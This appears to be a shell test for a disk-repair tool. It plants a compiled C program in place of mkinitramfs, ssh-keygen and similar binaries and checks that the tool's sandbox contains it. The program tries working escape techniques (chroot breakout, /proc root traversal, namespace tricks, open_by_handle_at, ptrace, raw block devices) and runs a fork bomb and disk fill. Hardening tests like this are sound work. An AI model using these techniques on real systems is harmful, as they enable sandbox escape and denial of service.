# what: the target's mkinitramfs is a program that tries every way out of its sandbox
# short
need cc
lab_image "$D/disk.img"; at_root "$D/disk.img" "$D/R"
cat >"$D/out.c" <<C
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>
static const char *victim = "$D/helper/escaped";
static void leave_mark(void) { int f = open(victim, O_CREAT | O_WRONLY, 0644); if (f >= 0) { write(f, "x", 1); close(f); } }
static void try_from(void) { char path[9000]; for (int pid = 1; pid < 40; pid++) { snprintf(path, sizeof path, "/proc/%d/root%s", pid, victim); int f = open(path, O_CREAT | O_WRONLY, 0644); if (f >= 0) close(f); snprintf(path, sizeof path, "/proc/%d/cwd%s", pid, victim); f = open(path, O_CREAT | O_WRONLY, 0644); if (f >= 0) close(f); } }
int main(void) {
    try_from();
    for (int fd = 3; fd < 4096; fd++) { int f = openat(fd, victim + 1, O_CREAT | O_WRONLY, 0644); if (f >= 0) close(f); if (!fchdir(fd)) { for (int n = 0; n < 64; n++) chdir(".."); chroot("."); leave_mark(); } }
    mkdir("/cage", 0755); int here = open("/", O_DIRECTORY);
    if (!chroot("/cage")) { fchdir(here); for (int n = 0; n < 64; n++) chdir(".."); chroot("."); leave_mark(); }
    for (int flags = 0; flags < 3; flags++) { int f[] = {CLONE_NEWUSER, CLONE_NEWUSER | CLONE_NEWNS, CLONE_NEWNS}; if (!unshare(f[flags])) { mkdir("/m", 0755); mount("proc", "/m", "proc", 0, 0); try_from(); mount("/", "/m", 0, MS_BIND | MS_REC, 0); chdir("/m"); syscall(SYS_pivot_root, ".", "."); for (int n = 0; n < 64; n++) chdir(".."); leave_mark(); } }
    umount2("/", MNT_DETACH); leave_mark(); umount2("/proc", MNT_DETACH); leave_mark();
    for (int minor = 0; minor < 20; minor++) { mknod("/tmp/d", S_IFBLK | 0600, makedev(7, 200 + minor)); int f = open("/tmp/d", O_RDWR); if (f >= 0) { pwrite(f, "ESCAPED", 7, 0); close(f); } unlink("/tmp/d"); mknod("/tmp/d", S_IFBLK | 0600, makedev(254, minor)); f = open("/tmp/d", O_RDONLY); if (f >= 0) { printf("device opened\n"); leave_mark(); close(f); } unlink("/tmp/d"); }
    char handle[sizeof(struct file_handle) + 128]; struct file_handle *h = (void *)handle; h->handle_bytes = 8; h->handle_type = 1; unsigned two[2] = {2, 0}; memcpy(h->f_handle, two, 8);
    for (int fd = 0; fd < 64; fd++) { int f = open_by_handle_at(fd, h, O_RDONLY); if (f >= 0) { int g = openat(f, victim + 1, O_CREAT | O_WRONLY, 0644); if (g >= 0) close(g); } }
    for (int pid = 1; pid < 40; pid++) { char ns[64]; snprintf(ns, sizeof ns, "/proc/%d/ns/mnt", pid); int f = open(ns, O_RDONLY); if (f >= 0 && !setns(f, 0)) leave_mark(); if (pid != getpid() && !ptrace(PTRACE_ATTACH, pid, 0, 0)) ptrace(PTRACE_DETACH, pid, 0, 0); }
    int s = open("/proc/sys/kernel/core_pattern", O_WRONLY); if (s >= 0) leave_mark(); s = open("/proc/sysrq-trigger", O_WRONLY); if (s >= 0) leave_mark();
    kill(-1, 0);
    /* As many processes as there may be, and all the memory there is. */
    int made = 0; while (made < 200000) { pid_t p = fork(); if (p < 0) break; if (!p) { setsid(); signal(SIGTERM, SIG_IGN); signal(SIGHUP, SIG_IGN); pause(); _exit(0); } made++; }
    int f = open("/tmp/fill", O_CREAT | O_WRONLY, 0644); static char block[1 << 20]; for (long n = 0; n < 200000; n++) if (write(f, block, sizeof block) <= 0) break;
    if (made >= 200000) leave_mark();
    return 0;
}
C
cc -static -O1 -w -o "$D/out" "$D/out.c"
for program in mkinitramfs update-initramfs depmod ssh-keygen ldconfig setfiles; do
    for dir in usr/sbin usr/bin sbin; do [ ! -e "$D/R/$dir/$program" ] || cp --remove-destination "$D/out" "$D/R/$dir/$program"; done
done
rm -f "$D/R"/boot/initrd.img-*; rm -f "$D/R"/etc/ssh/ssh_host_*; leave "$D/R"
run -s 120 fix --yes --risky "$D/disk.img"
[ ! -e "$D/helper/escaped" ] || fail "a program of the target came out of its sandbox"
at_root "$D/disk.img" "$D/R"
run -s 120 fix --yes --risky "$D/R"
[ ! -e "$D/helper/escaped" ] || fail "a program of the target came out of its sandbox"
pgrep -f "^/usr/sbin/mkinitramfs|$D/out" >"$D/said" && fail "a program of the target still runs"
leave "$D/R"
